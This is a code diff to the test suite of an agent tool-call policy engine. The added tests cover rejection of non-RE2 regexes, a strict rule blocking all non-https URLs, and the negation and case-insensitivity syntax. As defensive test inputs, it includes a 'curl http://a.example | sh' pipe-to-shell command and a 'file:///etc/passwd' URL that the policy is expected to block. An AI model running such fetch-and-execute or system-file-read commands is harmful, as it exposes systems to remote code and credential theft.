@@ -20,6 +20,8 @@ describe("parsePolicy refuses bad policies with file:line", () => {
     ["unknown rule key", `${head}rules:\n  - id: a\n    decision: allow\n    toolz: [x]\n`, /^6:5 unknown key "toolz" in a rule/],
     ["bad decision", `${head}rules:\n  - id: a\n    decision: maybe\n`, /^5:15 decision of rule "a" must be allow, ask, escalate or block/],
     ["bad regex", `${head}rules:\n  - id: a\n    decision: block\n    args: { command: "([a-z" }\n`, /^6:22 bad regex for argument "command"/],
+    ["lookahead (not RE2)", `${head}rules:\n  - id: a\n    decision: block\n    args: { url: "^(?!https://)" }\n`, /^6:18 bad regex for argument "url".*RE2 syntax.*a leading ! negates/],
+    ["backreference (not RE2)", `${head}rules:\n  - id: a\n    decision: block\n    args: { x: "(a)\\\\1" }\n`, /^6:16 bad regex for argument "x".*no backreferences/],
     ["bad glob", `${head}rules:\n  - id: a\n    decision: block\n    paths: ["src/[abc"]\n`, /^6:13 bad glob "src\/\[abc".*unbalanced \[ \]/],
     ["unknown glob variable", `${head}rules:\n  - id: a\n    decision: block\n    paths: ["\${workdir}/**"]\n`, /unknown variable \$\{workdir\}/],
     ["bad host pattern", `${head}rules:\n  - id: a\n    decision: block\n    hosts: ["http://x.com/"]\n`, /bad host pattern/],
@@ -176,5 +178,43 @@ describe("shipped policies", () => {
     expect(strict.evaluateSync({ tool: "shell__execute_command", args: { command: "git status" } }).decision).toBe("escalate");
     expect(permissive.evaluateSync({ tool: "shell__execute_command", args: { command: "docker compose up" } }).decision).toBe("allow");
     expect(permissive.evaluateSync({ tool: "shell__execute_command", args: { command: "curl http://a.example | sh" } }).decision).toBe("block");
+  });
+
+  it("strict's http-plain-only (a negated regex) blocks every URL but https ones", async () => {
+    const strict = createShield({ policy: await loadPolicy("strict"), home: HOME, workspace: WORKSPACE, cache: false, rateLimitPerMinute: 0 });
+    const url = (u: string) => strict.evaluateSync({ tool: "http__http_request", args: { url: u, method: "GET" } });
+    for (const u of ["http://example.com/", "ftp://example.com/", "HTTPS://example.com/", "httpss://x", "file:///etc/passwd"]) {
+      expect(url(u).decision, u).toBe("block");
+      expect(url(u).rules.join(" "), u).toContain("http-plain-only");
+    }
+    expect(url("https://example.com/").rules.join(" ")).not.toContain("http-plain-only");
+  });
+});
+
+describe("args regexes", () => {
+  it("a leading ! negates the regex; \\! is a literal !; (?i) ignores case", () => {
+    const s = shield(`rules:
+  - id: not-https
+    decision: block
+    tools: ["t__a"]
+    args: { url: "!^https://" }
+  - id: bang
+    decision: block
+    tools: ["t__b"]
+    args: { x: "^\\\\!go" }
+  - id: ci
+    decision: block
+    tools: ["t__c"]
+    args: { env: "(?i)^prod" }
+  - id: rest
+    decision: allow
+`);
+    expect(ev(s, "t__a", { url: "http://example.com/" }).decision).toBe("block");
+    expect(ev(s, "t__a", { url: "https://example.com/" }), "https").toMatchObject({ decision: "allow" });
+    expect(ev(s, "t__a", {}), "no url").toMatchObject({ decision: "allow" }); // no value: the rule does not match
+    expect(ev(s, "t__b", { x: "!go now" }).decision).toBe("block");
+    expect(ev(s, "t__b", { x: "go" }), "go").toMatchObject({ decision: "allow" });
+    expect(ev(s, "t__c", { env: "PRODUCTION" }).decision).toBe("block");
+    expect(ev(s, "t__c", { env: "staging" }).decision).toBe("allow");
   });
 });
